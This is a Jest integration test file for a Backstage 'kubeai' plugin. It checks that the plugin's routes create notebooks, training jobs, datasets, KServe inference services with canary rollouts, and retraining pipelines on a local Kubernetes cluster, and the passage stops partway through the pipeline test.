/*
 * The cluster routes against the real local kube-apiserver 1.20 with the real CRDs
 * (`yarn cluster:start`): every route creates what it should (read back from the apiserver),
 * twice gives one object and one registry record, bad inputs are refused naming the field and
 * leave nothing in the cluster, RBAC and apiserver validation reach the caller.
 */
import {
  mockCredentials,
  mockServices,
  startTestBackend,
  TestDatabaseId,
} from '@backstage/backend-test-utils';
import { Entity } from '@backstage/catalog-model';
import { catalogServiceMock } from '@backstage/plugin-catalog-node/testUtils';
import { AuthorizeResult } from '@backstage/plugin-permission-common';
import { Knex } from 'knex';
import { randomBytes } from 'node:crypto';
import request from 'supertest';
import {
  createTestDatabases,
  postgresSupport,
} from '../__testUtils__/databases';
import { kubeaiPlugin } from '../plugin';
import {
  deleteNamespace,
  listCreated,
  localClusterState,
  localKubernetesConfig,
  testGateway,
} from './__testUtils__/clusterRoutes';

// The first import() of @kubernetes/client-node under jest's VM modules takes seconds.
jest.setTimeout(180_000);

const suffix = randomBytes(3).toString('hex');
/** Where the good requests create objects. */
const NS = `kubeai-routes-${suffix}`;
/** Where the bad requests point: it must stay empty. */
const BAD_NS = `kubeai-bad-${suffix}`;
const API = '/api/kubeai';

const entity = (
  kind: string,
  name: string,
  spec: Entity['spec'] = {},
  annotations?: Record<string, string>,
): Entity => ({
  apiVersion: 'kubeai.io/v1alpha1',
  kind,
  metadata: {
    name,
    namespace: 'default',
    ...(annotations ? { annotations } : {}),
  },
  spec,
});

/** What the (mock) catalog knows. */
const entities: Entity[] = [
  entity('Model', 'shoe-brand'),
  entity('Model', 'sales-forecast'),
  entity('Model', 'other-model'),
  entity('Dataset', 'shoe-images', {
    source: { type: 'pvc', claimName: 'shoe-images', namespace: NS },
  }),
  entity('Dataset', 'bad-shoe-images', {
    source: { type: 'pvc', claimName: 'shoe-images', namespace: BAD_NS },
  }),
  entity('Dataset', 'clicks', {
    source: { type: 'table', engine: 'odps', project: 'dw', table: 'clicks' },
  }),
  entity('Dataset', 'holdout', {
    source: { type: 'oss', bucket: 'shoe-data', prefix: 'holdout' },
    cache: { engine: 'alluxio', capacity: '10Gi' },
  }),
  entity('InferenceService', 'preexisting'),
];

const ARTIFACT = (v: number) => ({
  uri: `s3://models/shoe-brand/${v}/model.onnx`,
  format: 'onnx',
});

type Feature = Parameters<typeof startTestBackend>[0]['features'];

async function startBackend(knex: Knex | undefined, features: Feature = []) {
  return startTestBackend({
    features: [
      kubeaiPlugin,
      ...(knex ? [mockServices.database.factory({ knex })] : []),
      catalogServiceMock.factory({ entities }),
      mockServices.rootConfig.factory({
        data: {
          backend: { baseUrl: 'http://localhost:7007' },
          kubeai: {
            registry: { validateResponses: true },
            informers: { enabled: false },
          },
          kubernetes: localKubernetesConfig(),
        },
      }),
      ...(features ?? []),
    ],
  });
}

const databases = createTestDatabases();
const gateway = testGateway();
const state = localClusterState();

beforeAll(async () => {
  await gateway.apply('local', [
    { apiVersion: 'v1', kind: 'Namespace', metadata: { name: NS } },
    { apiVersion: 'v1', kind: 'Namespace', metadata: { name: BAD_NS } },
  ]);
});

afterAll(async () => {
  await deleteNamespace(gateway, NS);
  await deleteNamespace(gateway, BAD_NS);
});

it('has PostgreSQL for the registry side', () => {
  expect(postgresSupport(databases)).toBe('ok');
});

/** Reads an object back from the apiserver (as the admin). */
const readBack = (
  apiVersion: string,
  kind: string,
  name: string,
  namespace = NS,
) =>
  gateway.get('local', { apiVersion, kind, namespace, name }) as Promise<any>;

describe('cluster routes (SQLite registry)', () => {
  let server: Awaited<ReturnType<typeof startBackend>>['server'];
  let stop: () => Promise<void>;

  beforeAll(async () => {
    const knex = await databases.init('SQLITE_3');
    const backend = await startBackend(knex);
    server = backend.server;
    stop = () => backend.stop();
    // the registry: shoe-brand v1, v2 (alias candidate), v3 (archived)
    for (const v of [1, 2, 3]) {
      await request(server)
        .post(`${API}/models/default/shoe-brand/versions`)
        .send({
          artifact: ARTIFACT(v),
          framework: 'pytorch',
          ...(v === 2 ? { aliases: ['candidate'] } : {}),
        })
        .expect(201);
    }
    await request(server)
      .patch(`${API}/models/default/shoe-brand/versions/3`)
      .send({ state: 'archived' })
      .expect(200);
    await request(server)
      .post(`${API}/datasets/default/shoe-images/versions`)
      .send({ version: 'v1', uri: `pvc://local/${NS}/shoe-images` })
      .expect(201);
  });
  afterAll(() => stop());

  // ---------------------------------------------------------------- clusters

  it('lists the clusters without credentials, and their namespaces', async () => {
    const clusters = await request(server).get(`${API}/clusters`).expect(200);
    expect(clusters.body).toEqual({
      items: [
        { name: 'local', url: state.server },
        { name: 'local-restricted', url: state.server },
      ],
      totalItems: 2,
    });
    expect(clusters.text).not.toContain(state.adminToken);
    expect(clusters.text).not.toContain(state.restrictedToken);
    const namespaces = await request(server)
      .get(`${API}/clusters/local/namespaces`)
      .expect(200);
    expect(namespaces.body.items).toEqual(
      expect.arrayContaining([{ name: 'team-a' }, { name: NS }]),
    );
    const unknown = await request(server).get(
      `${API}/clusters/nope/namespaces`,
    );
    expect(unknown.status).toBe(404);
    expect(unknown.body.error.message).toContain('unknown cluster "nope"');
    await request(server)
      .get(`${API}/clusters`)
      .set('Authorization', mockCredentials.none.header())
      .expect(401);
  });

  // ---------------------------------------------------------------- notebooks

  const notebook = {
    cluster: 'local',
    namespace: NS,
    name: 'shoe-explore',
    image: 'kubeflownotebookswg/jupyter-pytorch-cuda-full:v1.9.0',
    resources: { cpu: '2', memory: '8Gi', gpu: 1 },
    workspace: { size: '5Gi' },
    datasets: [{ datasetRef: 'dataset:default/shoe-images', version: 'v1' }],
    modelRef: 'model:default/shoe-brand',
  };

  it('creates a notebook with GPU, workspace and dataset, records its run, and twice leaves one of each', async () => {
    const first = await request(server).post(`${API}/notebooks`).send(notebook);
    expect(first.status).toBe(201);
    expect(first.body).toMatchObject({
      dryRun: false,
      object: {
        cluster: 'local',
        apiVersion: 'kubeflow.org/v1',
        kind: 'Notebook',
        namespace: NS,
        name: 'shoe-explore',
      },
      run: {
        kind: 'notebook',
        cluster: 'local',
        namespace: NS,
        name: 'shoe-explore',
        modelRef: 'model:default/shoe-brand',
        inputs: [{ datasetRef: 'dataset:default/shoe-images', version: 'v1' }],
        createdBy: 'user:default/mock',
      },
      url: '/catalog/default/model/shoe-brand',
    });
    expect(first.body.objects.map((o: any) => o.kind)).toEqual([
      'PersistentVolumeClaim',
      'Notebook',
    ]);

    const stored = await readBack(
      'kubeflow.org/v1',
      'Notebook',
      'shoe-explore',
    );
    expect(stored.metadata.uid).toBe(first.body.object.uid);
    expect(first.body.run.uid).toBe(stored.metadata.uid);
    expect(stored.metadata.labels).toMatchObject({
      'app.kubernetes.io/managed-by': 'kubeai',
      'kubeai.io/model': 'shoe-brand',
    });
    const container = stored.spec.template.spec.containers[0];
    expect(container.image).toBe(notebook.image);
    expect(container.resources).toEqual({
      requests: { cpu: '2', memory: '8Gi' },
      limits: { memory: '8Gi', 'nvidia.com/gpu': '1' },
    });
    expect(stored.spec.template.spec.volumes).toEqual(
      expect.arrayContaining([
        {
          name: 'workspace',
          persistentVolumeClaim: { claimName: 'shoe-explore-workspace' },
        },
        {
          name: 'dataset-shoe-images',
          persistentVolumeClaim: { claimName: 'shoe-images', readOnly: true },
        },
      ]),
    );
    const pvc = await readBack(
      'v1',
      'PersistentVolumeClaim',
      'shoe-explore-workspace',
    );
    expect(pvc.spec.resources.requests.storage).toBe('5Gi');

    const second = await request(server)
      .post(`${API}/notebooks`)
      .send(notebook);
    expect(second.status).toBe(201);
    expect(second.body.object.uid).toBe(first.body.object.uid);
    expect(second.body.run.id).toBe(first.body.run.id);
    const again = await readBack('kubeflow.org/v1', 'Notebook', 'shoe-explore');
    expect(again.metadata.generation).toBe(stored.metadata.generation);
    const listed = await gateway.list('local', {
      apiVersion: 'kubeflow.org/v1',
      kind: 'Notebook',
      namespace: NS,
      labelSelector: 'app.kubernetes.io/managed-by=kubeai',
    });
    expect(listed.filter(o => o.metadata.name === 'shoe-explore')).toHaveLength(
      1,
    );
    const runs = await request(server).get(`${API}/runs?kind=notebook`);
    expect(
      runs.body.items.filter((r: any) => r.name === 'shoe-explore'),
    ).toHaveLength(1);

    const status = await request(server)
      .get(`${API}/clusters/local/namespaces/${NS}/notebooks/shoe-explore`)
      .expect(200);
    expect(status.body).toMatchObject({
      object: {
        kind: 'Notebook',
        name: 'shoe-explore',
        uid: stored.metadata.uid,
      },
      phase: 'Pending',
      run: { id: first.body.run.id },
    });
  });

  it('answers a dry run with the manifests and creates nothing', async () => {
    const dry = await request(server)
      .post(`${API}/notebooks`)
      .send({ ...notebook, name: 'dry-notebook', dryRun: true });
    expect(dry.status).toBe(201);
    expect(dry.body.dryRun).toBe(true);
    expect(dry.body.run).toBeUndefined();
    expect(dry.body.manifests.map((m: any) => m.kind)).toEqual([
      'PersistentVolumeClaim',
      'Notebook',
    ]);
    expect(
      dry.body.manifests[1].spec.template.spec.containers[0].resources.limits,
    ).toEqual({
      memory: '8Gi',
      'nvidia.com/gpu': '1',
    });
    await expect(
      readBack('kubeflow.org/v1', 'Notebook', 'dry-notebook'),
    ).rejects.toThrow(/not found/);
    await expect(
      readBack('v1', 'PersistentVolumeClaim', 'dry-notebook-workspace'),
    ).rejects.toThrow(/not found/);
    const runs = await request(server).get(`${API}/runs?kind=notebook`);
    expect(runs.body.items.some((r: any) => r.name === 'dry-notebook')).toBe(
      false,
    );
  });

  // ---------------------------------------------------------------- training tasks

  const forecast = {
    cluster: 'local',
    namespace: NS,
    name: 'sales-forecast-store-17',
    kind: 'CronJob',
    schedule: '0 6 * * *',
    image: 'ghcr.io/acme/prophet-forecast:1.2',
    command: ['python', '-m', 'forecast'],
    args: ['--series', 'store-17'],
    resources: { cpu: '500m', memory: '1Gi' },
    queue: { name: 'team-a-queue', priorityClass: 'batch-low' },
    modelRef: 'model:default/sales-forecast',
    params: { horizon: 28 },
  };

  it('creates a periodic forecast CronJob (batch/v1beta1 on 1.20) with schedule and queue, once', async () => {
    const first = await request(server).post(`${API}/jobs`).send(forecast);
    expect(first.status).toBe(201);
    expect(first.body.object).toMatchObject({
      apiVersion: 'batch/v1beta1',
      kind: 'CronJob',
      name: forecast.name,
    });
    expect(first.body.run).toMatchObject({
      kind: 'training',
      modelRef: 'model:default/sales-forecast',
      params: { horizon: 28, objectKind: 'CronJob', schedule: '0 6 * * *' },
    });
    const stored = await readBack('batch/v1beta1', 'CronJob', forecast.name);
    expect(stored.spec.schedule).toBe('0 6 * * *');
    expect(stored.spec.concurrencyPolicy).toBe('Forbid');
    expect(stored.spec.jobTemplate.metadata.labels).toMatchObject({
      'kueue.x-k8s.io/queue-name': 'team-a-queue',
      'kueue.x-k8s.io/priority-class': 'batch-low',
      'kubeai.io/model': 'sales-forecast',
    });
    const container = stored.spec.jobTemplate.spec.template.spec.containers[0];
    expect(container.command).toEqual(['python', '-m', 'forecast']);
    expect(container.args).toEqual(['--series', 'store-17']);
    expect(container.resources.requests).toEqual({
      cpu: '500m',
      memory: '1Gi',
    });

    const second = await request(server).post(`${API}/jobs`).send(forecast);
    expect(second.body.object.uid).toBe(first.body.object.uid);
    expect(second.body.run.id).toBe(first.body.run.id);
    const listed = await gateway.list('local', {
      apiVersion: 'batch/v1beta1',
      kind: 'CronJob',
      namespace: NS,
    });
    expect(listed.filter(o => o.metadata.name === forecast.name)).toHaveLength(
      1,
    );

    const status = await request(server)
      .get(`${API}/clusters/local/namespaces/${NS}/jobs/${forecast.name}`)
      .expect(200);
    expect(status.body).toMatchObject({
      object: { kind: 'CronJob' },
      phase: 'Scheduled',
      run: { id: first.body.run.id },
    });
  });

  it('creates a GPU Job with parallelism and the Kueue label, and a PyTorchJob with replicas', async () => {
    const job = await request(server)
      .post(`${API}/jobs`)
      .send({
        cluster: 'local',
        namespace: NS,
        name: 'train-once',
        kind: 'Job',
        image: 'ghcr.io/acme/shoe-trainer:1.4',
        command: ['python', '-m', 'shoe.train'],
        resources: { cpu: '4', memory: '16Gi', gpu: 2 },
        parallelism: 2,
        completions: 2,
        queue: { name: 'team-a-queue' },
        datasets: ['dataset:default/shoe-images'].map(datasetRef => ({
          datasetRef,
        })),
      });
    expect(job.status).toBe(201);
    const stored = await readBack('batch/v1', 'Job', 'train-once');
    expect(stored.metadata.labels['kueue.x-k8s.io/queue-name']).toBe(
      'team-a-queue',
    );
    expect(stored.spec.parallelism).toBe(2);
    expect(
      stored.spec.template.spec.containers[0].resources.limits[
        'nvidia.com/gpu'
      ],
    ).toBe('2');
    expect(job.body.run.inputs).toEqual([
      { datasetRef: 'dataset:default/shoe-images' },
    ]);

    const pytorch = await request(server)
      .post(`${API}/jobs`)
      .send({
        cluster: 'local',
        namespace: NS,
        name: 'train-dist',
        kind: 'PyTorchJob',
        image: 'pytorch/pytorch:2.3.0-cuda12.1-cudnn8-runtime',
        command: ['torchrun', 'train.py'],
        replicas: { Worker: 3 },
        resources: { gpu: 1 },
        gang: { queue: 'default' },
      });
    expect(pytorch.status).toBe(201);
    const pt = await readBack('kubeflow.org/v1', 'PyTorchJob', 'train-dist');
    expect(pt.spec.pytorchReplicaSpecs.Worker.replicas).toBe(3);
    expect(pt.spec.pytorchReplicaSpecs.Master.replicas).toBe(1);
    expect(pt.spec.runPolicy.schedulingPolicy.minAvailable).toBe(4);
    const status = await request(server)
      .get(`${API}/clusters/local/namespaces/${NS}/jobs/train-dist`)
      .expect(200);
    expect(status.body.object.kind).toBe('PyTorchJob');
  });

  it('creates an MPIJob (kubeflow.org/v2beta1) with launcher, workers and slots, and reads its status', async () => {
    const created = await request(server)
      .post(`${API}/jobs`)
      .send({
        cluster: 'local',
        namespace: NS,
        name: 'train-mpi',
        kind: 'MPIJob',
        image: 'mpioperator/mpi-pi:openmpi',
        command: ['mpirun', '-n', '4', '/home/mpiuser/pi'],
        replicas: { Worker: 2 },
        replicaResources: { Launcher: { cpu: '1', memory: '1Gi' } },
        resources: { cpu: '2', memory: '4Gi' },
        slotsPerWorker: 2,
        gang: { queue: 'default' },
      });
    expect(created.status).toBe(201);
    expect(created.body.object).toMatchObject({
      apiVersion: 'kubeflow.org/v2beta1',
      kind: 'MPIJob',
      name: 'train-mpi',
    });
    expect(created.body.run.params).toMatchObject({ objectKind: 'MPIJob' });
    const mpi = await readBack('kubeflow.org/v2beta1', 'MPIJob', 'train-mpi');
    expect(mpi.spec.slotsPerWorker).toBe(2);
    expect(mpi.spec.mpiReplicaSpecs.Launcher.replicas).toBe(1);
    expect(mpi.spec.mpiReplicaSpecs.Worker.replicas).toBe(2);
    expect(
      mpi.spec.mpiReplicaSpecs.Launcher.template.spec.containers[0].resources
        .requests,
    ).toEqual({ cpu: '1', memory: '1Gi' });
    expect(mpi.spec.runPolicy.schedulingPolicy.minAvailable).toBe(3);
    const status = await request(server)
      .get(`${API}/clusters/local/namespaces/${NS}/jobs/train-mpi`)
      .expect(200);
    expect(status.body).toMatchObject({
      object: { kind: 'MPIJob', apiVersion: 'kubeflow.org/v2beta1' },
      phase: 'Pending',
      run: { id: created.body.run.id },
    });
  });

  it('surfaces an apiserver 422 as a 422 naming the field, and leaves nothing', async () => {
    const res = await request(server)
      .post(`${API}/jobs`)
      .send({
        cluster: 'local',
        namespace: NS,
        name: 'limit-below-request',
        kind: 'Job',
        image: 'python:3.12',
        resources: { cpu: '2', cpuLimit: '1' },
      });
    expect(res.status).toBe(422);
    expect(res.body.error.message).toMatch(
      /the cluster rejected the object: Job "limit-below-request" is invalid .*spec\.template\.spec\.containers\[0\]\.resources\.requests: Invalid value: "2": must be less than or equal to cpu limit/,
    );
    expect(res.body.error.causes).toEqual(
      expect.arrayContaining([
        expect.objectContaining({
          field: 'spec.template.spec.containers[0].resources.requests',
        }),
      ]),
    );
    await expect(
      readBack('batch/v1', 'Job', 'limit-below-request'),
    ).rejects.toThrow(/not found/);
  });

  it('refuses the restricted cluster user outside team-a with 403 naming the namespace', async () => {
    const denied = await request(server)
      .post(`${API}/notebooks`)
      .send({
        ...notebook,
        cluster: 'local-restricted',
        name: 'restricted-nb',
        datasets: [],
      });
    expect(denied.status).toBe(403);
    expect(denied.body.error.message).toContain(
      `in namespace "${NS}" of cluster "local-restricted": forbidden`,
    );
    await expect(
      readBack('kubeflow.org/v1', 'Notebook', 'restricted-nb'),
    ).rejects.toThrow(/not found/);
    await expect(
      readBack('v1', 'PersistentVolumeClaim', 'restricted-nb-workspace'),
    ).rejects.toThrow(/not found/);

    const name = `restricted-${suffix}`;
    const allowed = await request(server).post(`${API}/notebooks`).send({
      cluster: 'local-restricted',
      namespace: 'team-a',
      name,
      image: 'jupyter/base-notebook:latest',
    });
    expect(allowed.status).toBe(201);
    expect(allowed.body.object.namespace).toBe('team-a');
    await gateway.delete('local', {
      apiVersion: 'kubeflow.org/v1',
      kind: 'Notebook',
      namespace: 'team-a',
      name,
    });
  });

  it('creates a batch of forecast CronJobs, all validated before any is applied, reporting cluster refusals per item', async () => {
    const task = (i: number, patch: Record<string, unknown> = {}) => ({
      ...forecast,
      name: `batch-forecast-${i}`,
      schedule: `${i} 6 * * *`,
      params: { store: i },
      ...patch,
    });
    const items = [0, 1, 2].map(i => task(i));
    const first = await request(server)
      .post(`${API}/jobs/batch`)
      .send({ items });
    expect(first.status).toBe(201);
    expect(first.body).toMatchObject({ dryRun: false, created: 3, failed: 0 });
    expect(
      first.body.items.map((i: any) => [i.index, i.status, i.object.kind]),
    ).toEqual([
      [0, 201, 'CronJob'],
      [1, 201, 'CronJob'],
      [2, 201, 'CronJob'],
    ]);
    for (const i of [0, 1, 2]) {
      const stored = await readBack(
        'batch/v1beta1',
        'CronJob',
        `batch-forecast-${i}`,
      );
      expect(stored.spec.schedule).toBe(`${i} 6 * * *`);
      expect(stored.metadata.uid).toBe(first.body.items[i].object.uid);
      const run = await request(server).get(
        `${API}/runs/${first.body.items[i].runId}`,
      );
      expect(run.body).toMatchObject({
        uid: stored.metadata.uid,
        params: { store: i },
      });
    }
    const again = await request(server)
      .post(`${API}/jobs/batch`)
      .send({ items });
    expect(again.body.items.map((i: any) => i.runId)).toEqual(
      first.body.items.map((i: any) => i.runId),
    );

    // one invalid task: the whole batch is refused, naming it; nothing applied
    const invalid = await request(server)
      .post(`${API}/jobs/batch`)
      .send({
        items: [
          task(0, { namespace: BAD_NS }),
          task(1, { namespace: BAD_NS, schedule: '0 24 * * *' }),
        ],
      });
    expect(invalid.status).toBe(400);
    expect(invalid.body.error.message).toContain(
      'request/body/items/1/schedule hour value 24 is out of range 0-23',
    );
    const duplicate = await request(server)
      .post(`${API}/jobs/batch`)
      .send({
        items: [task(0, { namespace: BAD_NS }), task(0, { namespace: BAD_NS })],
      });
    expect(duplicate.status).toBe(400);
    expect(duplicate.body.error.message).toContain('request/body/items/1/name');
    expect(await listCreated(gateway, BAD_NS)).toEqual([]);

    // the cluster refuses one task: 207, the others applied
    const partial = await request(server)
      .post(`${API}/jobs/batch`)
      .send({
        items: [task(3), task(4, { resources: { cpu: '2', cpuLimit: '1' } })],
      });
    expect(partial.status).toBe(207);
    expect(partial.body).toMatchObject({ created: 1, failed: 1 });
    expect(partial.body.items[1]).toMatchObject({
      index: 1,
      status: 422,
      error: {
        name: 'UnprocessableEntityError',
        message: expect.stringContaining(
          'must be less than or equal to cpu limit',
        ),
      },
    });
    expect(
      (await readBack('batch/v1beta1', 'CronJob', 'batch-forecast-3')).spec
        .schedule,
    ).toBe('3 6 * * *');
    await expect(
      readBack('batch/v1beta1', 'CronJob', 'batch-forecast-4'),
    ).rejects.toThrow(/not found/);

    const dry = await request(server)
      .post(`${API}/jobs/batch`)
      .send({ items: [task(5)], dryRun: true });
    expect(dry.status).toBe(201);
    expect(dry.body.items[0].manifests[0].spec.schedule).toBe('5 6 * * *');
    await expect(
      readBack('batch/v1beta1', 'CronJob', 'batch-forecast-5'),
    ).rejects.toThrow(/not found/);
  });

  // ---------------------------------------------------------------- datasets

  it('creates a PVC dataset, registers its entity and version, and twice changes nothing', async () => {
    const body = {
      cluster: 'local',
      namespace: NS,
      name: 'sales-history',
      source: { type: 'pvc', size: '2Gi' },
      catalogEntity: {
        owner: 'group:default/forecasting',
        title: 'Sales history',
      },
    };
    const first = await request(server).post(`${API}/datasets`).send(body);
    expect(first.status).toBe(201);
    expect(first.body).toMatchObject({
      object: { kind: 'PersistentVolumeClaim', name: 'sales-history' },
      entityRef: 'dataset:default/sales-history',
      url: '/catalog/default/dataset/sales-history',
      datasetVersion: {
        datasetRef: 'dataset:default/sales-history',
        version: 'v1',
        uri: `pvc://local/${NS}/sales-history`,
      },
    });
    const pvc = await readBack('v1', 'PersistentVolumeClaim', 'sales-history');
    expect(pvc.spec.resources.requests.storage).toBe('2Gi');
    expect(pvc.metadata.labels['kubeai.io/entity']).toBe(
      'dataset.default.sales-history',
    );

    const second = await request(server).post(`${API}/datasets`).send(body);
    expect(second.status).toBe(201);
    expect(second.body.datasetVersion.version).toBe('v1');
    expect(second.body.object.uid).toBe(first.body.object.uid);
    const versions = await request(server).get(
      `${API}/datasets/default/sales-history/versions`,
    );
    expect(versions.body.totalItems).toBe(1);
    const portal = await request(server)
      .get(`${API}/catalog-entities`)
      .expect(200);
    expect(portal.body.items).toEqual(
      expect.arrayContaining([
        expect.objectContaining({
          kind: 'Dataset',
          metadata: expect.objectContaining({
            name: 'sales-history',
            title: 'Sales history',
            annotations: {
              'kubeai.io/cluster': 'local',
              'kubeai.io/namespace': NS,
              'kubeai.io/claim-name': 'sales-history',
            },
          }),
          spec: expect.objectContaining({
            owner: 'group:default/forecasting',
            source: {
              type: 'pvc',
              claimName: 'sales-history',
              namespace: NS,
              cluster: 'local',
            },
          }),
        }),
      ]),
    );
    // the portal-registered dataset can be mounted right away
    const nb = await request(server)
      .post(`${API}/notebooks`)
      .send({
        cluster: 'local',
        namespace: NS,
        name: 'history-explore',
        image: 'jupyter/base-notebook:latest',
        datasets: [{ datasetRef: 'dataset:default/sales-history' }],
        dryRun: true,
      });
    expect(nb.status).toBe(201);
    expect(
      nb.body.manifests[0].spec.template.spec.volumes[0].persistentVolumeClaim,
    ).toEqual({
      claimName: 'sales-history',
      readOnly: true,
    });
  });

  it('creates a Fluid Dataset with an Alluxio cache over OSS', async () => {
    const res = await request(server)
      .post(`${API}/datasets`)
      .send({
        cluster: 'local',
        namespace: NS,
        name: 'shoe-oss',
        source: {
          type: 'oss',
          bucket: 'shoe-data',
          path: 'images/v3',
          endpoint: 'oss-cn-hangzhou.aliyuncs.com',
          credentials: { secretName: 'oss-creds' },
        },
        cache: { runtime: 'alluxio', quota: '2Gi', medium: 'MEM' },
        catalogEntity: { owner: 'group:default/cv-team' },
        version: '2026-11-01',
      });
    expect(res.status).toBe(201);
    expect(res.body.objects.map((o: any) => o.kind)).toEqual([
      'Dataset',
      'AlluxioRuntime',
    ]);
    expect(res.body.datasetVersion).toMatchObject({
      version: '2026-11-01',
      uri: 's3://shoe-data/images/v3'.replace('s3', 'oss'),
    });
    const dataset = await readBack(
      'data.fluid.io/v1alpha1',
      'Dataset',
      'shoe-oss',
    );
    expect(dataset.spec.mounts[0].mountPoint).toBe('oss://shoe-data/images/v3');
    const runtime = await readBack(
      'data.fluid.io/v1alpha1',
      'AlluxioRuntime',
      'shoe-oss',
    );
    expect(runtime.spec.tieredstore.levels[0].quota).toBe('2Gi');
    const status = await request(server)
      .get(`${API}/clusters/local/namespaces/${NS}/datasets/shoe-oss`)
      .expect(200);
    expect(status.body.object.kind).toBe('Dataset');
  });

  // ---------------------------------------------------------------- inference services

  const deploy = {
    cluster: 'local',
    namespace: NS,
    name: 'shoe-brand',
    model: 'model:default/shoe-brand',
    modelVersion: 1,
    resources: { cpu: '1', memory: '2Gi', gpu: 1 },
    minReplicas: 1,
    maxReplicas: 3,
    catalogEntity: { owner: 'group:default/cv-team' },
  };
  const isvcPath = `${API}/inference-services/local/${NS}/shoe-brand`;
  const readIsvc = () =>
    readBack('serving.kserve.io/v1beta1', 'InferenceService', 'shoe-brand');

  it('deploys a registry version (storageUri = its artifact) with entity and deployment, once', async () => {
    const first = await request(server)
      .post(`${API}/inference-services`)
      .send(deploy);
    expect(first.status).toBe(201);
    expect(first.body).toMatchObject({
      entityRef: 'inferenceservice:default/shoe-brand',
      url: '/catalog/default/inferenceservice/shoe-brand',
      deployment: {
        serviceRef: 'inferenceservice:default/shoe-brand',
        cluster: 'local',
        namespace: NS,
        name: 'shoe-brand',
        modelRef: 'model:default/shoe-brand',
        revision: 1,
        traffic: [{ version: 1, percent: 100 }],
      },
    });
    const stored = await readIsvc();
    expect(stored.spec.predictor).toMatchObject({
      minReplicas: 1,
      maxReplicas: 3,
      model: {
        modelFormat: { name: 'onnx' },
        storageUri: ARTIFACT(1).uri,
        resources: {
          requests: { cpu: '1', memory: '2Gi' },
          limits: { memory: '2Gi', 'nvidia.com/gpu': '1' },
        },
      },
    });
    expect(stored.metadata.labels).toMatchObject({
      'kubeai.io/model': 'shoe-brand',
      'kubeai.io/model-version': '1',
      'kubeai.io/entity': 'inferenceservice.default.shoe-brand',
    });

    const second = await request(server)
      .post(`${API}/inference-services`)
      .send(deploy);
    expect(second.status).toBe(201);
    expect(second.body.deployment.revision).toBe(1);
    expect(second.body.object.uid).toBe(first.body.object.uid);
    const portal = await request(server).get(`${API}/catalog-entities`);
    const isvcEntity = portal.body.items.find(
      (e: any) => e.kind === 'InferenceService',
    );
    expect(isvcEntity).toMatchObject({
      metadata: { name: 'shoe-brand', namespace: 'default' },
      spec: {
        owner: 'group:default/cv-team',
        model: 'model:default/shoe-brand',
        modelVersion: 1,
        runtime: { modelFormat: 'onnx' },
        deployment: { cluster: 'local', namespace: NS, name: 'shoe-brand' },
      },
    });
  });

  it('rolls a version out as a canary by alias, promotes it and rolls back, recording each revision', async () => {
    const canary = await request(server)
      .post(`${API}/inference-services`)
      .send({ ...deploy, modelVersion: 'candidate', canaryTrafficPercent: 20 });
    expect(canary.status).toBe(201);
    expect(canary.body.deployment).toMatchObject({
      revision: 2,
      traffic: [
        { version: 1, percent: 80 },
        { version: 2, percent: 20 },
      ],
    });
    let stored = await readIsvc();
    expect(stored.spec.predictor.canaryTrafficPercent).toBe(20);
    expect(stored.spec.predictor.model.storageUri).toBe(ARTIFACT(2).uri);
    expect(stored.spec.predictor.minReplicas).toBe(1);

    const promoted = await request(server).post(`${isvcPath}/promote`).send({});
    expect(promoted.status).toBe(201);
    expect(promoted.body.deployment).toMatchObject({
      revision: 3,
      traffic: [{ version: 2, percent: 100 }],
    });
    stored = await readIsvc();
    expect(stored.spec.predictor).not.toHaveProperty('canaryTrafficPercent');
    expect(stored.spec.predictor.model.storageUri).toBe(ARTIFACT(2).uri);
    const again = await request(server).post(`${isvcPath}/promote`).send({});
    expect(again.status).toBe(409);
    expect(again.body.error.message).toContain('has no canary to promote');

    const rolledBack = await request(server)
      .post(`${isvcPath}/rollback`)
      .send({ message: 'error rate up' });
    expect(rolledBack.status).toBe(201);
    expect(rolledBack.body.deployment).toMatchObject({
      revision: 4,
      traffic: [{ version: 1, percent: 100 }],
    });
    stored = await readIsvc();
    expect(stored.spec.predictor.model.storageUri).toBe(ARTIFACT(1).uri);
    expect(stored.metadata.labels['kubeai.io/model-version']).toBe('1');
    const revisions = await request(server).get(
      `${API}/deployments/default/shoe-brand/revisions`,
    );
    expect(revisions.body.items.map((r: any) => r.message)).toEqual([
      'error rate up',
      'Promote v2',
      'Canary v2 at 20%',
      'Deploy v1',
    ]);
    const status = await request(server)
      .get(
        `${API}/clusters/local/namespaces/${NS}/inference-services/shoe-brand`,
      )
      .expect(200);
    expect(status.body).toMatchObject({
      phase: 'Pending',
      deployment: { revision: 4 },
    });
    const dryPromote = await request(server)
      .post(`${isvcPath}/rollback`)
      .send({ toVersion: 2, dryRun: true });
    expect(dryPromote.status).toBe(201);
    expect(dryPromote.body.manifests[0].spec.predictor.model.storageUri).toBe(
      ARTIFACT(2).uri,
    );
    expect((await readIsvc()).spec.predictor.model.storageUri).toBe(
      ARTIFACT(1).uri,
    );
  });

  // ---------------------------------------------------------------- pipelines

  it('creates the retrain → evaluate → register → canary CronWorkflow and records its run', async () => {
    const body = {
      cluster: 'local',
      namespace: NS,
      name: 'shoe-brand-retrain',
      modelRef: 'model:default/shoe-brand',
      schedule: '0 2 * * *',
      parameters: [{ name: 'epochs', value: '10' }],
      steps: [
        {
          name: 'retrain',
          type: 'training',
          training: {
            kind: 'PyTorchJob',
            image: 'ghcr.io/acme/shoe-trainer:1.4',
            command: ['python', '-m', 'shoe.train'],
            args: ['--epochs', '{{workflow.parameters.epochs}}'],
            replicas: { Worker: 2 },
            resources: { gpu: 1 },
            datasets: [{ datasetRef: 'dataset:default/shoe-images' }],
          },
        },
        {
          name: 'evaluate',
          type: 'container',
          dependsOn: ['retrain'],
          image: 'ghcr.io/acme/shoe-trainer:1.4',
          command: ['python', '-m', 'shoe.evaluate'],
          outputs: [{ name: 'accuracy', path: '/tmp/accuracy' }],
        },
        {
          name: 'register',
          type: 'registerModelVersion',
          dependsOn: ['evaluate'],
          when: '{{tasks.evaluate.outputs.parameters.accuracy}} >= 0.9',
          registry: {
            url: 'http://backstage.backstage:7007/api/kubeai',
            tokenSecret: { name: 'kubeai-registry', key: 'token' },
          },
          artifact: {
            uri: 's3://models/shoe-brand/{{workflow.name}}/model.onnx',
            format: 'onnx',
          },
        },
        {
          name: 'canary',
          type: 'deployCanary',
          dependsOn: ['register'],
          inferenceService: {
            name: 'shoe-brand',
            version: {
              version: '{{tasks.register.outputs.parameters.version}}',
              artifact: {
                uri: 's3://models/shoe-brand/{{workflow.name}}/model.onnx',
                format: 'onnx',
              },
            },
            canaryTrafficPercent: 10,
          },
        },
      ],
    };
    const first = await request(server).post(`${API}/pipelines`).send(body);
